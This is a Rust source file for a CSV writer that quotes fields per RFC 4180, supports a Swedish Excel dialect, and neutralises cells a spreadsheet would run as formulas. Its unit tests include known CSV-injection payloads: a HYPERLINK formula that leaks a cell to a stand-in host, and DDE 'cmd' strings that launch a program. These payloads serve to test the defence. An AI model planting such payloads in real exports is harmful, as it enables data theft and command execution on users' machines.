//! The one CSV writer: RFC 4180 quoting, and fields that a spreadsheet would run as a formula
//! neutralised.
//!
//! Sources: RFC 4180 §2 (a field with a comma, a double quote or a line break is enclosed in
//! double quotes, and a double quote inside is doubled); OWASP, "CSV Injection" (a cell starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google
//! Sheets as a formula, so such a field gets a leading `'` and is quoted). Records end with `\n`
//! (every spreadsheet and CSV reader accepts it; RFC 4180 allows it as the common practice).
//!
//! The writer is typed: a [`Field::Number`] is a number Samsyn computed and is written as a
//! number (so `-0.5` stays `-0.5`), while a [`Field::Text`] is checked whatever it looks like,
//! because a text from the user's data that merely looks like a number (`-1+cmd|…`) is exactly
//! what an attacker would write.
//!
//! ```
//! use samsyn_core::export::{CsvWriter, Field};
//! let mut w = CsvWriter::new();
//! w.header(&["unit", "value"]);
//! w.record([Field::Text("=HYPERLINK(\"x\")"), Field::Number(-0.5)]);
//! assert_eq!(w.finish(), "unit,value\n\"'=HYPERLINK(\"\"x\"\")\",-0.5\n");
//! ```

/// One field of a record.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum Field<'a> {
    /// Text, from the data or from Samsyn: quoted when needed, neutralised when a spreadsheet
    /// would read it as a formula.
    Text(&'a str),
    /// A number Samsyn computed, in Rust's shortest round-trip form; empty when not finite.
    Number(f64),
    /// A number that may be absent (a suppressed or undefined value): empty when `None`.
    Maybe(Option<f64>),
}

/// How a CSV is written: the separator, the decimal mark and whether it opens with a BOM.
///
/// Swedish Excel opens a file by double-click with the list separator of the Swedish locale
/// (`;`) and reads `1234,5` as a number only with a decimal comma; it takes the file as UTF-8
/// only when it starts with a byte-order mark (otherwise as Windows-1252, and `å` breaks).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Dialect {
    /// `,` between fields, a decimal point, no BOM (RFC 4180; R, Python, English Excel).
    #[default]
    Plain,
    /// `;` between fields, a decimal comma, UTF-8 with a BOM (Swedish Excel).
    SwedishExcel,
}

impl Dialect {
    fn separator(self) -> char {
        match self {
            Dialect::Plain => ',',
            Dialect::SwedishExcel => ';',
        }
    }
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Builds a CSV text record by record.
#[derive(Debug, Default, Clone)]
pub struct CsvWriter {
    out: String,
    dialect: Dialect,
}

impl CsvWriter {
    /// An empty table, in the plain dialect.
    pub fn new() -> Self {
        CsvWriter::default()
    }

    /// An empty table in `dialect`.
    pub fn with_dialect(dialect: Dialect) -> Self {
        let out = match dialect {
            Dialect::Plain => String::new(),
            Dialect::SwedishExcel => "\u{feff}".to_owned(),
        };
        CsvWriter { out, dialect }
    }

    /// A header record: every name is written as [`Field::Text`].
    pub fn header<S: AsRef<str>>(&mut self, names: &[S]) {
        self.record(names.iter().map(|n| Field::Text(n.as_ref())));
    }

    /// One record, ended by `\n`.
    pub fn record<'a>(&mut self, fields: impl IntoIterator<Item = Field<'a>>) {
        let separator = self.dialect.separator();
        for (i, f) in fields.into_iter().enumerate() {
            if i > 0 {
                self.out.push(separator);
            }
            match f {
                Field::Text(t) => push_text(&mut self.out, t, separator),
                Field::Number(v) | Field::Maybe(Some(v)) => {
                    push_number(&mut self.out, v, self.dialect)
                }
                Field::Maybe(None) => {}
            }
        }
        self.out.push('\n');
    }

    /// The CSV text.
    pub fn finish(self) -> String {
        self.out
    }
}

fn push_number(out: &mut String, v: f64, dialect: Dialect) {
    use std::fmt::Write as _;
    if !v.is_finite() {
        return;
    }
    match dialect {
        Dialect::Plain => {
            let _ = write!(out, "{v}");
        }
        // Rust's shortest round-trip form never has an exponent or a grouping mark: the point
        // is the one decimal mark.
        Dialect::SwedishExcel => out.push_str(&v.to_string().replace('.', ",")),
    }
}

fn push_text(out: &mut String, t: &str, separator: char) {
    let formula = t.starts_with(FORMULA_STARTS);
    if !formula && !t.contains([separator, '"', '\n', '\r']) {
        out.push_str(t);
        return;
    }
    out.push('"');
    if formula {
        out.push('\'');
    }
    for c in t.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

/// A CSV that [`CsvWriter`] wrote in the plain dialect, written again in `dialect`: the same
/// records, with every unquoted field that is a plain decimal number (`-?digits[.digits]`,
/// the form the writer gives a [`Field::Number`]) written as a number of `dialect`, and every
/// other field as text. A text field that looks like a number (a code `2480`, a year) is read
/// so by a spreadsheet in either dialect, so reading it as a number changes nothing a
/// spreadsheet shows. Input the writer did not make is still read without panicking: an
/// unclosed quote runs to the end.
pub fn rewrite(plain: &str, dialect: Dialect) -> String {
    let mut w = CsvWriter::with_dialect(dialect);
    for record in plain_records(plain) {
        w.record(record.iter().map(|(text, quoted)| {
            if !quoted && is_plain_number(text) {
                text.parse::<f64>()
                    .map(Field::Number)
                    .unwrap_or(Field::Text(text))
            } else {
                // The writer neutralises a formula again: take off the `'` it put there.
                let unneutralised = text
                    .strip_prefix('\'')
                    .filter(|rest| *quoted && rest.starts_with(FORMULA_STARTS));
                Field::Text(unneutralised.unwrap_or(text))
            }
        }));
    }
    w.finish()
}

/// Whether `t` is `-?digits[.digits]`.
fn is_plain_number(t: &str) -> bool {
    let digits = t.strip_prefix('-').unwrap_or(t);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// The records of a plain (`,`) CSV: each field's text (a neutralising `'` kept) and whether
/// it was quoted.
pub fn plain_records(csv: &str) -> Vec<Vec<(String, bool)>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let (mut quoted, mut in_quotes) = (false, false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        if in_quotes {
            match c {
                '"' if chars.peek() == Some(&'"') => {
                    chars.next();
                    field.push('"');
                }
                '"' => in_quotes = false,
                other => field.push(other),
            }
            continue;
        }
        match c {
            '"' => {
                in_quotes = true;
                quoted = true;
            }
            ',' => record.push((std::mem::take(&mut field), std::mem::take(&mut quoted))),
            '\n' => {
                record.push((std::mem::take(&mut field), std::mem::take(&mut quoted)));
                records.push(std::mem::take(&mut record));
            }
            other => field.push(other),
        }
    }
    if !field.is_empty() || quoted || !record.is_empty() {
        record.push((field, quoted));
        records.push(record);
    }
    records
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(f: Field) -> String {
        let mut w = CsvWriter::new();
        w.record([f]);
        w.finish()
    }

    #[test]
    fn rfc_4180_quoting() {
        assert_eq!(one(Field::Text("Umeå")), "Umeå\n");
        assert_eq!(one(Field::Text("a,b")), "\"a,b\"\n");
        assert_eq!(one(Field::Text("say \"hi\"")), "\"say \"\"hi\"\"\"\n");
        assert_eq!(one(Field::Text("two\nlines")), "\"two\nlines\"\n");
        assert_eq!(one(Field::Text("")), "\n");
        let mut w = CsvWriter::new();
        w.header(&["a", "b"]);
        w.record([Field::Text("x"), Field::Maybe(None), Field::Number(3.0)]);
        assert_eq!(w.finish(), "a,b\nx,,3\n");
    }

    #[test]
    fn each_formula_prefix_gets_a_quote_and_is_quoted() {
        assert_eq!(one(Field::Text("=1+1")), "\"'=1+1\"\n");
        assert_eq!(one(Field::Text("+1")), "\"'+1\"\n");
        assert_eq!(one(Field::Text("-1")), "\"'-1\"\n");
        assert_eq!(one(Field::Text("@A1")), "\"'@A1\"\n");
        assert_eq!(one(Field::Text("\tx")), "\"'\tx\"\n");
        assert_eq!(one(Field::Text("\rx")), "\"'\rx\"\n");
        // Only the first character counts.
        assert_eq!(one(Field::Text("a=b")), "a=b\n");
        assert_eq!(one(Field::Text("–5")), "–5\n");
    }

    #[test]
    fn known_payloads_are_defused() {
        assert_eq!(
            one(Field::Text(
                "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klicka\")"
            )),
            "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Klicka\"\")\"\n"
        );
        assert_eq!(
            one(Field::Text("+cmd|' /C calc'!A0")),
            "\"'+cmd|' /C calc'!A0\"\n"
        );
        assert_eq!(
            one(Field::Text("@SUM(1+9)*cmd|' /C calc'!A0")),
            "\"'@SUM(1+9)*cmd|' /C calc'!A0\"\n"
        );
        assert_eq!(
            one(Field::Text("-2+3+cmd|' /C calc'!A0")),
            "\"'-2+3+cmd|' /C calc'!A0\"\n"
        );
    }

    #[test]
    fn numbers_written_by_samsyn_stay_numbers() {
        assert_eq!(one(Field::Number(-0.5)), "-0.5\n");
        assert_eq!(one(Field::Number(-12.0)), "-12\n");
        assert_eq!(one(Field::Maybe(Some(-1e-7))), "-0.0000001\n");
        assert_eq!(one(Field::Number(0.1 + 0.2)), "0.30000000000000004\n");
        assert_eq!(one(Field::Number(f64::NAN)), "\n");
        assert_eq!(one(Field::Number(f64::NEG_INFINITY)), "\n");
        // The same characters as text are neutralised.
        assert_eq!(one(Field::Text("-0.5")), "\"'-0.5\"\n");
    }

    #[test]
    fn swedish_excel_has_a_bom_semicolons_and_decimal_commas() {
        let mut w = CsvWriter::with_dialect(Dialect::SwedishExcel);
        w.header(&["enhet", "värde"]);
        w.record([Field::Text("Umeå; centrum"), Field::Number(1234.5)]);
        w.record([Field::Text("a,b"), Field::Number(-0.25)]);
        w.record([Field::Text("=1+1"), Field::Maybe(None)]);
        assert_eq!(
            w.finish(),
            "\u{feff}enhet;värde\n\"Umeå; centrum\";1234,5\na,b;-0,25\n\"'=1+1\";\n"
        );
    }

    #[test]
    fn a_plain_csv_is_rewritten_field_for_field() {
        let mut w = CsvWriter::new();
        w.header(&["kommun", "period", "value", "reason"]);
        w.record([
            Field::Text("2480"),
            Field::Text("2023"),
            Field::Number(1234.5),
            Field::Text("under 2,5; se not"),
        ]);
        w.record([
            Field::Text("-1.5"),
            Field::Text("x"),
            Field::Number(-0.000_000_1),
            Field::Text("say \"hi\"\nnow"),
        ]);
        w.record([
            Field::Text("2482"),
            Field::Text(""),
            Field::Maybe(None),
            Field::Text(""),
        ]);
        let plain = w.finish();
        assert_eq!(rewrite(&plain, Dialect::Plain), plain);
        assert_eq!(
            rewrite(&plain, Dialect::SwedishExcel),
            "\u{feff}kommun;period;value;reason\n\
             2480;2023;1234,5;\"under 2,5; se not\"\n\
             \"'-1.5\";x;-0,0000001;\"say \"\"hi\"\"\nnow\"\n\
             2482;;;\n"
        );
    }

    #[test]
    fn rewriting_what_the_writer_did_not_make_never_panics() {
        for odd in [
            "\"",
            "a,\"b",
            "\"\"\"",
            ",,\n\n",
            "1.2.3,-,.5,5.",
            "\u{feff}x",
        ] {
            let _ = rewrite(odd, Dialect::SwedishExcel);
        }
        assert_eq!(
            rewrite("1.2.3,-,.5,5.\n", Dialect::SwedishExcel),
            "\u{feff}1.2.3;\"'-\";.5;5.\n"
        );
    }
}
